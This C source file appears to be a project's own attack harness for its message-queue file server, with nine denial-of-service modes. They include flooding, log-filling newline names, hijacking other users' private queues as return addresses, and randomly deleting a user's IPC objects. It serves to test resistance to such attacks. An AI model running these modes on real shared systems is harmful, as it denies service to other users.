/*
 * What a user may try so that others are not served any more. Each kind goes on until TERM, INT or HUP, and
 * says every second how many messages it has sent. docs/security.md tells what comes of it.
 *
 *   hold NAME COUNT       keeps COUNT answers unfinished in one session, and takes a byte of each every second
 *   check NAME OFFSET COUNT
 *                         has the server read OFFSET bytes of the file again and again, to compare them with a
 *                         wrong checksum, COUNT times at once
 *   name USER NAME        names the private queues of that user as return addresses of classic requests
 *   lines                 asks for names that are 4,090 ends of lines, and so fills the log
 *   unread NAME COUNT     asks from each of COUNT private queues, again and again, and never reads
 *   refused NAME          asks in one session without an end, and never reads what it is told
 *   greet                 greets with queues that it removes at once
 *   flood NAME            asks for a file as fast as it can, and reads
 *   remove USER           removes queues and semaphores of that user, as systemd does when a user logs out: the
 *                         server's, in any order, at any moment. It needs that user's rights.
 *
 * Exit status: 0 ended by a signal; 1 refused; 2 a system call failed, or the command line is wrong.
 */
#define _GNU_SOURCE 1

#include <limits.h>
#include <sys/sem.h>
#include <time.h>

#include "guard.h"
#include "session.h"

static volatile sig_atomic_t created;
static int *queues;
static long long sent;
static time_t told;

static _Noreturn void usage(void)
{
    fputs("usage: attack [-k KEY] hold NAME COUNT | check NAME OFFSET COUNT | name USER NAME | lines"
          " | unread NAME COUNT | refused NAME | greet | flood NAME | remove USER\n", stderr);
    exit(EXIT_ERROR);
}

static long long now(void)
{
    struct timespec time;
    clock_gettime(CLOCK_MONOTONIC, &time);
    return time.tv_sec * 1000000000LL + time.tv_nsec;
}

static void pause_for(long nanoseconds)
{
    struct timespec time = { .tv_sec = nanoseconds / 1000000000, .tv_nsec = nanoseconds % 1000000000 };
    nanosleep(&time, NULL);
}

/* Counts a message, and tells the count when the last time is a second ago. */
static void count_message(void)
{
    sent++;
    time_t second = time(NULL);
    if (second != told) {
        told = second;
        printf("sent %lld\n", sent);
        flush_or_fail(EXIT_ERROR);
    }
}

/* False where the server's queue is gone: somebody else's attack may be just that. */
static bool send_counted(int server, const void *message, size_t size)
{
    if (send_message(server, message, size) == -1) {
        if (errno == EIDRM || errno == EINVAL)
            return false;
        fail("msgsnd", EXIT_ERROR);
    }
    count_message();
    return true;
}

static void remove_queues_and_finish(int signal_number)
{
    (void) signal_number;
    while (created > 0) {
        created--;
        msgctl(queues[created], IPC_RMID, NULL);
    }
    _exit(EXIT_SUCCESS);
}

/* Ends by these signals with 0, and without a queue. Returns them. */
static sigset_t finish_by_signals(void)
{
    struct sigaction action = { .sa_handler = remove_queues_and_finish };
    sigemptyset(&action.sa_mask);
    sigaddset(&action.sa_mask, SIGTERM);
    sigaddset(&action.sa_mask, SIGINT);
    sigaddset(&action.sa_mask, SIGHUP);
    sigaction(SIGTERM, &action, NULL);
    sigaction(SIGINT, &action, NULL);
    sigaction(SIGHUP, &action, NULL);
    return action.sa_mask;
}

static int open_server(key_t key)
{
    int server = msgget(key, 0200);
    if (server == -1)
        fail("msgget", EXIT_ERROR);
    return server;
}

struct session {
    int server, queue;
    char credentials[CREDENTIALS];
    int64_t last;
};

static struct session open_session(key_t key)
{
    struct session session = { .server = open_server(key) };
    session.queue = create_guarded_queue(IPC_PRIVATE, 0600, remove_queue_and_finish);
    if (session.queue == -1)
        fail("msgget", EXIT_ERROR);
    give_queue(session.queue, user_of(session.server));
    send_greeting(session.server, session.queue);
    struct answer welcome;
    receive_welcome(session.queue, &welcome);
    memcpy(session.credentials, welcome.content, CREDENTIALS);
    return session;
}

/* Asks for a file from that byte on; where that is not its first, with a checksum of those before it that is wrong. */
static int64_t ask(struct session *session, const char *name, int64_t offset, int64_t credit)
{
    struct session_request request = {
        .type = FROM_CLIENT,
        .request = ++session->last,
        .kind = KIND_REQUEST,
        .credit = credit,
        .checked = offset > 0,
        .checksum = 1,
        .offset = offset,
        .length = INT64_MAX,
    };
    size_t length = strlen(name);
    if (length > sizeof request.name)
        usage();
    memcpy(request.credentials, session->credentials, CREDENTIALS);
    memcpy(request.name, name, length);
    request.payload_length = (int32_t) (FILE_PAYLOAD + length);
    if (!send_counted(session->server, &request, REQUEST_HEADER + FILE_PAYLOAD + length))
        exit(EXIT_REFUSED);
    return request.request;
}

static void allow(struct session *session, int64_t id, int64_t credit)
{
    struct session_request allowed = { .type = FROM_CLIENT, .request = id, .kind = KIND_CREDIT, .credit = credit };
    memcpy(allowed.credentials, session->credentials, CREDENTIALS);
    if (!send_counted(session->server, &allowed, REQUEST_HEADER))
        exit(EXIT_REFUSED);
}

/* Which of the requests an answer is for, by its id. */
enum { MOST = 1 << 20 };
static int slot_of[MOST];

/* Receives what is there, and forgets the requests that have ended. */
static void drain(struct session *session, int64_t *ids)
{
    static struct answer answer;
    while (msgrcv(session->queue, &answer, ANSWER_SIZE, 0, IPC_NOWAIT) != -1) {
        int slot = slot_of[answer.request % MOST];
        if (answer.kind != ANSWER_DATA && ids[slot] == answer.request)
            ids[slot] = 0;
    }
    if (errno != ENOMSG && errno != EINTR)
        fail("msgrcv", EXIT_ERROR);
}

static _Noreturn void hold(key_t key, const char *name, int count)
{
    struct session session = open_session(key);
    int64_t *ids = calloc((size_t) count, sizeof *ids);
    if (ids == NULL)
        fail("calloc", EXIT_ERROR);
    for (int64_t credit = 1; ; credit++) {
        long long began = now();
        for (int slot = 0; slot < count; slot++) {
            if (ids[slot] == 0) {
                ids[slot] = ask(&session, name, 0, credit);
                slot_of[ids[slot] % MOST] = slot;
            } else
                allow(&session, ids[slot], credit);
            if (slot % 16 == 0)
                drain(&session, ids);
        }
        do {
            drain(&session, ids);
            pause_for(1000000);
        } while (now() - began < 1000000000);
    }
}

static _Noreturn void check(key_t key, const char *name, int64_t offset, int count)
{
    struct session session = open_session(key);
    static struct answer answer;
    for (int i = 0; i < count; i++)
        ask(&session, name, offset, INT64_MAX);
    for (;;) {
        if (receive_message(session.queue, &answer, ANSWER_SIZE, 0) == -1)
            fail("msgrcv", EXIT_ERROR);
        if (answer.kind != ANSWER_DATA)
            ask(&session, name, offset, INT64_MAX);
    }
}

static _Noreturn void refused(key_t key, const char *name)
{
    struct session session = open_session(key);
    for (;;)
        ask(&session, name, 0, INT64_MAX);
}

/* A request in the classic dialect of 4,100 bytes. */
struct classic {
    long type;
    int return_address;
    char name[4096];
};
enum { CLASSIC_SIZE = 4100 };

static _Noreturn void name_queues(key_t key, uid_t user, const char *name)
{
    finish_by_signals();
    int server = open_server(key);
    struct classic request = { .type = 1 };
    if (strlen(name) >= sizeof request.name)
        usage();
    strcpy(request.name, name);
    for (;;) {
        FILE *table = fopen("/proc/sysvipc/msg", "r");
        if (table == NULL)
            fail("/proc/sysvipc/msg", EXIT_ERROR);
        char line[512];
        int found = 0;
        while (fgets(line, sizeof line, table) != NULL) {
            int queue_key, queue;
            unsigned creator;
            if (sscanf(line, "%d %d %*o %*u %*u %*d %*d %*u %*u %u", &queue_key, &queue, &creator) == 3
                    && queue_key == 0 && creator == user) {
                found++;
                request.return_address = queue;
                if (!send_counted(server, &request, CLASSIC_SIZE))
                    server = open_server(key);
            }
        }
        fclose(table);
        if (found == 0)
            pause_for(1000000);
    }
}

static _Noreturn void ask_for_lines(key_t key)
{
    int server = open_server(key);
    int queue = create_guarded_queue(IPC_PRIVATE, 0622, remove_queue_and_finish);
    if (queue == -1)
        fail("msgget", EXIT_ERROR);
    struct classic request = { .type = 1, .return_address = queue };
    memset(request.name, '\n', 4090);
    static struct answer answer;
    while (send_counted(server, &request, CLASSIC_SIZE))
        while (msgrcv(queue, &answer, ANSWER_SIZE, 0, IPC_NOWAIT | MSG_NOERROR) != -1)
            continue;
    exit(EXIT_REFUSED);
}

static _Noreturn void flood(key_t key, const char *name)
{
    struct session session = open_session(key);
    static struct answer answer;
    for (;;) {
        ask(&session, name, 0, INT64_MAX);
        while (msgrcv(session.queue, &answer, ANSWER_SIZE, 0, IPC_NOWAIT) != -1)
            continue;
    }
}

static _Noreturn void leave_unread(key_t key, const char *name, int count)
{
    int server = open_server(key);
    queues = calloc((size_t) count, sizeof *queues);
    if (queues == NULL)
        fail("calloc", EXIT_ERROR);
    sigset_t signals = finish_by_signals();
    struct classic request = { .type = 1 };
    strcpy(request.name, name);
    for (int i = 0; ; i = (i + 1) % count) {
        if (i == created) {
            /* No signal between the queue and its place in the list. */
            sigprocmask(SIG_BLOCK, &signals, NULL);
            int queue = msgget(IPC_PRIVATE, 0622);
            if (queue == -1)
                fail("msgget", EXIT_ERROR);
            queues[created] = queue;
            created++;
            sigprocmask(SIG_UNBLOCK, &signals, NULL);
        }
        request.return_address = queues[i];
        if (!send_counted(server, &request, CLASSIC_SIZE))
            server = open_server(key);
    }
}

static _Noreturn void greet(key_t key)
{
    int server = open_server(key);
    uid_t user = user_of(server);
    sigset_t signals = finish_by_signals();
    for (;;) {
        sigprocmask(SIG_BLOCK, &signals, NULL);
        int queue = msgget(IPC_PRIVATE, 0600);
        if (queue == -1)
            fail("msgget", EXIT_ERROR);
        give_queue(queue, user);
        struct hello hello = greeting(queue);
        /* Without waiting: no signal would end that. */
        bool full = msgsnd(server, &hello, sizeof hello - sizeof(long), IPC_NOWAIT) == -1;
        msgctl(queue, IPC_RMID, NULL);
        sigprocmask(SIG_UNBLOCK, &signals, NULL);
        if (full)
            pause_for(50000);
        else
            count_message();
    }
}

/* What such an object is removed by. */
typedef int remover(int id);

static int remove_queue(int id)
{
    return msgctl(id, IPC_RMID, NULL);
}

static int remove_semaphores(int id)
{
    return semctl(id, 0, IPC_RMID);
}

/* Removes each of what a table lists, with some luck: what is left out is removed another time. */
static void remove_some(const char *path, const char *format, uid_t user, remover *remove)
{
    FILE *table = fopen(path, "r");
    if (table == NULL)
        fail(path, EXIT_ERROR);
    char line[512];
    while (fgets(line, sizeof line, table) != NULL) {
        int id;
        unsigned owner;
        if (sscanf(line, format, &id, &owner) == 2 && owner == user && random() % 2 == 0 && remove(id) == 0)
            count_message();
    }
    fclose(table);
}

static _Noreturn void remove_all(uid_t user)
{
    finish_by_signals();
    for (;;) {
        bool queues_first = random() % 2 == 0;
        for (int i = 0; i < 2; i++)
            if ((i == 0) == queues_first)
                remove_some("/proc/sysvipc/msg", "%*d %d %*o %*u %*u %*d %*d %u", user, remove_queue);
            else
                remove_some("/proc/sysvipc/sem", "%*d %d %*o %*u %u", user, remove_semaphores);
        pause_for(200000000);
    }
}

static int number(const char *text, int low)
{
    long long value;
    if (!parse_number(text, low, INT_MAX, &value))
        usage();
    return (int) value;
}

int main(int argc, char *argv[])
{
    key_t key = DEFAULT_KEY;
    for (int option; (option = getopt(argc, argv, "+k:")) != -1; )
        if (option != 'k' || !parse_key(optarg, &key))
            usage();
    char **words = argv + optind;
    int count = argc - optind;
    if (count == 0)
        usage();
    const char *kind = words[0];
    long long offset;
    if (strcmp(kind, "hold") == 0 && count == 3)
        hold(key, words[1], number(words[2], 1));
    else if (strcmp(kind, "check") == 0 && count == 4 && parse_number(words[2], 1, INT64_MAX, &offset))
        check(key, words[1], offset, number(words[3], 1));
    else if (strcmp(kind, "name") == 0 && count == 3)
        name_queues(key, (uid_t) number(words[1], 0), words[2]);
    else if (strcmp(kind, "lines") == 0 && count == 1)
        ask_for_lines(key);
    else if (strcmp(kind, "unread") == 0 && count == 3)
        leave_unread(key, words[1], number(words[2], 1));
    else if (strcmp(kind, "refused") == 0 && count == 2)
        refused(key, words[1]);
    else if (strcmp(kind, "greet") == 0 && count == 1)
        greet(key);
    else if (strcmp(kind, "flood") == 0 && count == 2)
        flood(key, words[1]);
    else if (strcmp(kind, "remove") == 0 && count == 2)
        remove_all((uid_t) number(words[1], 0));
    usage();
}
